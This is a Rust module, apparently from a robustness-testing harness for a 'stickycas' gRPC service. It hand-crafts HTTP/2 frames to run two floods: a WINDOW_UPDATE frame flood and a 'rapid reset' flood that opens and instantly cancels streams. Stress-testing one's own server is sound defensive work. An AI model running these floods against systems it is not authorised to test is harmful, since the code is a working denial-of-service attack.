//! HTTP/2 frames made by hand: floods of those that no client library sends.

use stickycas_client::Error;
use stickycas_proto::principal::PRINCIPAL_KEY;
use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _, ReadHalf, WriteHalf};

use super::context::AttackContext;
use super::wire::{ByteStream, PREFACE, broken, connect, prefixed, scheme};

/// Kinds and flags of HTTP/2 frames, and an error code.
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;
/// Bytes of the head of a frame.
const HEAD: usize = 9;
/// A frame for the window of a stream or of the connection.
const WINDOW_UPDATE: u8 = 8;
const PING: u8 = 6;
/// The flag of an answered PING.
const ACK: u8 = 1;

/// A connection on which one call was answered, so that the server can know whose it is.
async fn open_with_a_call(
    context: &AttackContext,
) -> Result<(ReadHalf<ByteStream>, WriteHalf<ByteStream>), Error> {
    let (mut read, mut write) = tokio::io::split(connect(context.config()).await?);
    let first = frame(HEADERS, END_HEADERS, 1, &call(context));
    let empty = frame(DATA, END_STREAM, 1, &prefixed(&[]));
    let begun = async {
        write.write_all(&[PREFACE, &first, &empty].concat()).await?;
        // The answer begins with HEADERS of some stream.
        while next_frame(&mut read).await?.0 != HEADERS {}
        Ok::<_, std::io::Error>(())
    };
    begun.await.map_err(|error| broken(context.config(), error))?;
    Ok((read, write))
}

/// A PING. Frames are answered in their order, so its answer shows that all before it was read.
fn ping() -> Vec<u8> {
    frame(PING, 0, 0, &[0; 8])
}

/// Until the server ends the connection, however it does. Once it has answered a [`ping`], the attack has had
/// an effect.
async fn drain(context: &AttackContext, read: &mut (impl AsyncRead + Unpin)) {
    while let Ok((kind, flags)) = next_frame(read).await {
        if kind == PING && flags & ACK != 0 {
            context.tally.effect();
        }
    }
}

/// Kind and flags of the next frame; its payload is skipped.
async fn next_frame(read: &mut (impl AsyncRead + Unpin)) -> std::io::Result<(u8, u8)> {
    let mut head = [0; HEAD];
    read.read_exact(&mut head).await?;
    let length = u64::from(u32::from_be_bytes([0, head[0], head[1], head[2]]));
    tokio::io::copy(&mut (&mut *read).take(length), &mut tokio::io::sink()).await?;
    Ok((head[3], head[4]))
}

/// An HTTP/2 frame (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The headers of a call (RFC 7541): two of the static table, the others as literals.
fn call(context: &AttackContext) -> Vec<u8> {
    const POST: u8 = 0x83;
    const HTTP: u8 = 0x86;
    const HTTPS: u8 = 0x87;
    let mut block = vec![POST, if scheme(context.config()) == "https" { HTTPS } else { HTTP }];
    let authorization = context.config().authorization();
    let token = authorization.as_ref().and_then(|token| token.to_str().ok());
    for (name, value) in [
        (":path", "/stickycas.v1.InstanceService/List"),
        (":authority", context.config().authority()),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        (PRINCIPAL_KEY, context.principal()),
    ]
    .into_iter()
    .chain(token.map(|token| ("authorization", token)))
    {
        block.push(0);
        text(&mut block, name);
        text(&mut block, value);
    }
    block
}

/// A string literal: its length in a prefix of seven bits, and its bytes.
fn text(block: &mut Vec<u8>, text: &str) {
    const PREFIX: usize = 0x7f;
    if text.len() < PREFIX {
        block.push(text.len() as u8);
    } else {
        block.push(PREFIX as u8);
        let mut rest = text.len() - PREFIX;
        while rest >= 0x80 {
            block.push((rest % 0x80) as u8 | 0x80);
            rest /= 0x80;
        }
        block.push(rest as u8);
    }
    block.extend(text.as_bytes());
}

/// Writes all chunks, each with its number of attempts, as fast as the server takes them, unless it ends the
/// connection before.
async fn flood(context: &AttackContext, chunks: impl Iterator<Item = (usize, Vec<u8>)>) -> Result<(), Error> {
    let (mut read, mut write) = open_with_a_call(context).await?;
    let writing = async {
        for (turn, (attempts, mut bytes)) in chunks.enumerate() {
            // The server takes the others as slowly as it likes: once it has taken these, the process goes on
            // beside them.
            if turn == 0 {
                bytes.extend(ping());
            }
            context.tally.attempts(attempts as u64);
            if write.write_all(&bytes).await.is_err() {
                context.tally.cut();
                return;
            }
        }
        // The server has endured it all, and is left alone.
        let _ = write.shutdown().await;
    };
    tokio::join!(writing, drain(context, &mut read));
    Ok(())
}

/// Sends frames of HTTP/2 that carry no request: the smallest steps of a window. The server has to look at
/// each, and no limit on calls counts them.
pub(super) async fn frame_flood(context: &AttackContext) -> Result<(), Error> {
    const AT_A_TIME: usize = 1_024;
    let (one, count) = (frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()), context.count as usize);
    let chunks = (0..count).step_by(AT_A_TIME).map(|sent| {
        let frames = AT_A_TIME.min(count - sent);
        (frames, one.repeat(frames))
    });
    flood(context, chunks).await
}

/// Opens streams and resets each at once, on one connection and much faster than they can be answered: "rapid
/// reset". Each is the beginning of a call of the protocol. A client library would not send a stream that is
/// reset at once.
pub(super) async fn reset_flood(context: &AttackContext) -> Result<(), Error> {
    /// Before anybody else has a turn.
    const AT_A_TIME: usize = 64;
    let call = call(context);
    let streams: Vec<u32> = (3..).step_by(2).take(context.count as usize).collect();
    let chunks = streams.chunks(AT_A_TIME).map(|streams| {
        let mut bytes = Vec::new();
        for stream in streams {
            bytes.extend(frame(HEADERS, END_HEADERS, *stream, &call));
            bytes.extend(frame(RST_STREAM, 0, *stream, &CANCEL.to_be_bytes()));
        }
        (streams.len(), bytes)
    });
    flood(context, chunks).await
}
